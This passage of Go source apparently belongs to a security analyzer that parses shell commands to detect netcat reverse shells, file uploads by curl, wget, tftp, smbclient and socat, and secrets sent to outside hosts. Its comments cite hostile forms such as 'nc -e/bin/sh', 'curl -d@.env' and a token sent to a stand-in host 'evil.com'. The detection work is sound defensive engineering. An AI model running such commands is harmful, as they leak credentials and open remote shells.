	}
	if !reverse || len(ops) == 0 {
		return nil // a mirror downloads unless reversed
	}
	return ops[:1]
}

// getTargets lists the local files a batch of get commands (sftp) writes:
// the second operand, or the remote file's name in the current directory.
func getTargets(script string) []string {
	var out []string
	for _, c := range strings.FieldsFunc(script, func(r rune) bool { return r == ';' || r == '\n' }) {
		f := strings.Fields(c)
		if len(f) < 2 || f[0] != "get" && f[0] != "reget" && f[0] != "mget" {
			continue
		}
		var ops []string
		for _, v := range f[1:] {
			if !strings.HasPrefix(v, "-") {
				ops = append(ops, v)
			}
		}
		switch {
		case f[0] == "mget" || len(ops) == 0:
			out = append(out, ".")
		case len(ops) == 1:
			out = append(out, path.Base(ops[0]))
		default:
			out = append(out, ops[1])
		}
	}
	return out
}

// netcatRuns says nc's words run a program for a peer: -e/-c/--sh-exec
// in any spelling (bundled -ve, attached -e/bin/sh, --sh-e) and a host
// or port operand, or listening. A name known only at run time is tried
// as nc, and $PERL -e 'print 1' must not read as a reverse shell (its
// code is -e's value, no operand); $X -e CODE HOST PORT still does.
func netcatRuns(args []word) bool {
	inv := parseArgs(cmds.Netcat, args)
	return inv.HasRole(argv.Run) && (len(inv.Operands) > 0 || inv.Has("-l", "--listen"))
}

// socatLocal reads a socat call whose two addresses are local files or
// standard streams (cmds.SocatLocal): the files data flows out of and
// into; false for any other call.
func socatLocal(lb string, args []word) (reads, writes []word, ok bool) {
	if lb != cmds.Socat.Name {
		return nil, nil, false
	}
	addrs, ok := cmds.SocatLocal(len(args), wordAt(args))
	for _, ad := range addrs {
		if ad.Path != "" && ad.Read {
			reads = append(reads, word{val: ad.Path})
		}
		if ad.Path != "" && ad.Write {
			writes = append(writes, word{val: ad.Path})
		}
	}
	return reads, writes, ok
}

// uploadCandidates lists files a network tool would send, from args[i]
// when it has the value v, by its entry's upload syntax (NetTool.Uploads).
func uploadCandidates(t *cmds.NetTool, args []word, i int, v string) []string {
	switch t.Uploads {
	case "curl":
		return curlUploads(args, i, v)
	case "wget":
		return wgetUploads(args, i, v)
	case "attach":
		return attachments(args, i, v)
	case "socat":
		return append(attachments(args, i, v), socatReads(v)...)
	case "ftp":
		// ftp -u URL FILE…: uploads
		if i > 0 && !strings.HasPrefix(v, "-") && !strings.Contains(v, "://") && hasFlag(args, "-u") {
			return []string{v}
		}
	case "tftp":
		// tftp -c put FILE, tftp HOST put FILE
		if (v == "put" || v == "-c" && i+2 < len(args) && args[i+1].val == "put") && i+1 < len(args) {
			if v == "-c" {
				i++
			}
			return []string{args[i+1].val}
		}
	case "smbclient":
		// smbclient -c 'put FILE'
		if (v == "-c" || v == "--command") && i+1 < len(args) {
			return putOperands(args[i+1].val)
		}
	}
	return nil
}

// curlUploads are the files curl and httpie send from args[i] (value v):
// -T/--upload-file and -K/--config FILE, and the forms that name a file
// to send: @file (-d, -H, --json), name=@file and name=<file (-F, with
// ;type=... after it), name@file (--data-urlencode, httpie), name:=@file
// and :@file (httpie). Inline data (-d 'a=b@c.com&x=y') names none.
func curlUploads(args []word, i int, v string) []string {
	var out []string
	body := v
	if len(v) > 2 && v[0] == '-' && v[1] != '-' {
		// a short option with its value attached: -d@.env, -T.env, and
		// -T or -K ending a cluster (-sT FILE) or inside one (-sT.env)
		if j := strings.IndexAny(v[1:], "TK") + 1; j > 0 {
			if j == len(v)-1 {
				if i+1 < len(args) {
					out = append(out, args[i+1].val)
				}
			} else {
				out = append(out, v[j+1:])
			}
		}
		body = v[2:]
	}
	for _, p := range []string{"--upload-file=", "--config="} {
		if strings.HasPrefix(v, p) {
			out = append(out, strings.TrimPrefix(v, p))
		}
	}
	if c := uploadFieldFile(body); c != "" && c != "-" {
		out = append(out, c)
	}
	if (v == "-T" || v == "--upload-file" || v == "-K" || v == "--config") && i+1 < len(args) {
		out = append(out, args[i+1].val)
	}
	return out
}

// uploadFieldFile is the file a form field or data value names (@file,
// name=@file, name=<file;type=…, name=@"a file"), "" for inline data.
func uploadFieldFile(body string) string {
	c := ""
	switch {
	case strings.HasPrefix(body, "@"):
		c = body[1:]
	case uploadField().MatchString(body):
		c = body[uploadField().FindStringSubmatchIndex(body)[3]:]
	}
	if q, ok := strings.CutPrefix(c, `"`); ok {
		c, _, _ = strings.Cut(q, `"`) // -F 'f=@"a file"': curl unquotes it
	} else {
		c, _, _ = strings.Cut(c, ";")
	}
	return c
}

// wgetUploads are the files wget sends from args[i] (value v): the value
// of --post-file, --body-file, --input-file (any unambiguous prefix), and
// -i FILE, alone or ending a cluster (-qi FILE, -qiFILE): the file's lines
// are URLs, sent (with -B) to any host.
func wgetUploads(args []word, i int, v string) []string {
	if n, val, eq := strings.Cut(strings.TrimPrefix(v, "--"), "="); strings.HasPrefix(v, "--") {
		if o := longOpt(n, wgetLong); o == "post-file" || o == "body-file" || o == "input-file" {
			if !eq && i+1 < len(args) {
				val = args[i+1].val
			}
			return []string{val}
		}
		return nil
	}
	if len(v) <= 1 || v[0] != '-' {
		return nil
	}
	for j := 1; j < len(v) && !strings.ContainsRune("oaeOBtTwQPUlARDIX", rune(v[j])); j++ {
		if v[j] != 'i' {
			continue
		}
		if j == len(v)-1 && i+1 < len(args) {
			return []string{args[i+1].val}
		}
		return []string{v[j+1:]}
	}
	return nil
}

// attachments are the files a mailer or socket tool sends with -a FILE,
// --attach FILE.
func attachments(args []word, i int, v string) []string {
	if (v == "-a" || v == "--attach") && i+1 < len(args) {
		return []string{args[i+1].val}
	}
	return nil
}

// socatReads are the files socat's FILE:, OPEN:, GOPEN: address v reads
// into the stream.
func socatReads(v string) []string {
	var out []string
	for _, p := range []string{"file:", "open:", "gopen:"} {
		if strings.HasPrefix(strings.ToLower(v), p) {
			out = append(out, strings.SplitN(v[len(p):], ",", 2)[0])
		}
	}
	return out
}

// followsLinks reports an upload of a directory that sends what its links
// point to, as the client's entry says (cmds.NetTool's Follows and
// NoFollow): aws s3 sync/cp follow links unless --no-follow-symlinks;
// rclone with -L or --copy-links; others are assumed to.
func (c *netCall) followsLinks() bool {
	switch {
	case c.t.Follows != nil:
		return anyFlag(c.args, c.t.Follows)
	case c.t.NoFollow != nil:
		return !anyFlag(c.args, c.t.NoFollow)
	}
	return true
}

// sends reads what the command sends or copies: socat between local files
// is a copy; a network tool's words are read by network(); any other
// command's flag values are read for secrets.
func (c *plainCall) sends() {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	if reads, writes, ok := socatLocal(lb, args); ok {
		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
		for _, w := range reads {
			a.readWord(w, sc, idx, false)
		}
		for _, w := range writes {
			a.writeWord(w, sc, idx)
		}
	} else if (netReads(lb) || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !c.localSync() {
		c.s.or(a.network(f, idx, lb, args, sc))
	} else if !c.hooked("search") {
		a.flagValueSecrets(lb, args, sc, idx, nil)
	}
}

// localSync says the command is a sync between local paths (rsync
// without a remote operand: a copy, cmds/files.go), not the network's.
func (c *plainCall) localSync() bool {
	t := cmds.FileToolOf(c.lb)
	return t != nil && t.Does == cmds.Syncs && !remoteArgs(c.args)
}

// exfil is the floor for a secret the command sends: a tainted word or a
// secret's variable on the network, or a token in a URL a fetcher gets
// from another service's host.
func (c *plainCall) exfil() {
	a, f, idx, lb, args := c.a, c.f, c.idx, c.lb, c.args
	for _, w := range args {
		if w.taint && c.s.net || w.secretName != "" && c.s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
		}
		// git clone, pip install -i, npm i URL fetch the URL they are given:
		// a token in it goes to that host as surely as with curl
		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
			h := urlHost(w.val)
			if p, _, _ := strings.Cut(w.val, "/"); h == "" && t.Module == "go" && strings.Contains(p, ".") {
				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
			}
			if h != "" && secretOffService(w.secretName, []string{h}) {
				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
			}
		}
	}
}

// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
// or git's user@host:path), or "".
func urlHost(v string) string {
	if i := strings.Index(v, "://"); i >= 0 {
		v = v[i+3:]
		v, _, _ = strings.Cut(v, "/")
		if j := strings.LastIndexByte(v, '@'); j >= 0 {
			v = v[j+1:]
		}
		v, _, _ = strings.Cut(v, ":")
		return v
	}
	if at := strings.IndexByte(v, '@'); at > 0 {
		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
			return h
		}
	}
	return ""
}

// hostsOf lists the hosts command idx connects to.
func (fl *factLog) hostsOf(idx int) []string {
	var hosts []string
	for _, g := range fl.facts[max(idx, 0):] {
		if g.kind == protocol.FactNetwork && g.parent == idx {
			hosts = append(hosts, g.host)
		}
	}
	return hosts
}

// isASCIILetter reports an ASCII letter: a cluster of short flags holds
// only letters until a value starts.
func isASCIILetter(b byte) bool { return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' }
